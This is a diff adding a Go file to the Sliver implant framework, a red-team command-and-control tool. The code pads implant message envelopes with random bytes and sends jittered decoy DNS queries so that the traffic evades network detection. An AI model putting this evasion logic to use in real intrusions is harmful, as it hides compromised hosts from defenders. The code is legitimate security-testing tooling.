@@ -0,0 +1,139 @@
+package transports
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+// Traffic shaping from the build's network profile, every envelope gets a
+// random amount of padding and cover DNS queries are made in the background
+
+import (
+	// {{if .Network}}
+	"context"
+	"crypto/rand"
+	"encoding/binary"
+	"net"
+	"strconv"
+	"time"
+	// {{end}}
+
+	// {{if and .Network .Debug}}
+	"log"
+	// {{end}}
+
+	pb "github.com/bishopfox/sliver/protobuf/sliverpb"
+)
+
+// {{if .Network}}
+
+var (
+	minPadding, _         = strconv.Atoi("{{.Network.MinPadding}}")
+	maxPadding, _         = strconv.Atoi("{{.Network.MaxPadding}}")
+	dummyQueryInterval, _ = strconv.Atoi("{{.Network.DummyQueryInterval}}")
+
+	dummyDomains = []string{
+		// {{range .Network.DummyDomains}}
+		"{{.}}",
+		// {{end}}
+	}
+
+	// dnsRecordMix - Relative weight of each record type in the cover queries
+	dnsRecordMix = []struct {
+		record string
+		weight string
+	}{
+		// {{range $record, $weight := .Network.DNSRecordMix}}
+		{"{{$record}}", "{{$weight}}"},
+		// {{end}}
+	}
+)
+
+// randomIntn - The math/rand source isn't seeded in every build, so shaping
+// uses crypto/rand to avoid the same "random" sizes in every implant
+func randomIntn(n int) int {
+	if n <= 0 {
+		return 0
+	}
+	buf := make([]byte, 4)
+	rand.Read(buf)
+	return int(binary.LittleEndian.Uint32(buf) % uint32(n))
+}
+
+func dummyRecordType() string {
+	total := 0
+	for _, entry := range dnsRecordMix {
+		weight, _ := strconv.Atoi(entry.weight)
+		total += weight
+	}
+	pick := randomIntn(total)
+	for _, entry := range dnsRecordMix {
+		weight, _ := strconv.Atoi(entry.weight)
+		if pick < weight {
+			return entry.record
+		}
+		pick -= weight
+	}
+	return "A"
+}
+
+func dummyQuery(domain string, record string) {
+	// {{if .Debug}}
+	log.Printf("[shaping] cover query %s %s", record, domain)
+	// {{end}}
+	ctx := context.Background()
+	switch record {
+	case "AAAA":
+		net.DefaultResolver.LookupIP(ctx, "ip6", domain)
+	case "CNAME":
+		net.DefaultResolver.LookupCNAME(ctx, domain)
+	case "MX":
+		net.DefaultResolver.LookupMX(ctx, domain)
+	case "TXT":
+		net.DefaultResolver.LookupTXT(ctx, domain)
+	default:
+		net.DefaultResolver.LookupIP(ctx, "ip4", domain)
+	}
+}
+
+// {{end}}
+
+// padEnvelope - Random padding to vary the size of envelopes on the wire, the
+// server ignores it
+func padEnvelope(envelope *pb.Envelope) {
+	// {{if .Network}}
+	if maxPadding <= 0 {
+		return
+	}
+	envelope.Padding = make([]byte, minPadding+randomIntn(maxPadding-minPadding+1))
+	rand.Read(envelope.Padding)
+	// {{end}}
+}
+
+// CoverTraffic - Make a cover DNS query every interval (+/- 50%), record types
+// follow the network profile's mix. Never returns if there are queries to make.
+func CoverTraffic() {
+	// {{if .Network}}
+	if dummyQueryInterval <= 0 || len(dummyDomains) == 0 || len(dnsRecordMix) == 0 {
+		return
+	}
+	for {
+		interval := time.Duration(dummyQueryInterval) * time.Second
+		time.Sleep(interval/2 + time.Duration(randomIntn(int(interval/time.Millisecond)))*time.Millisecond)
+		dummyQuery(dummyDomains[randomIntn(len(dummyDomains))], dummyRecordType())
+	}
+	// {{end}}
+}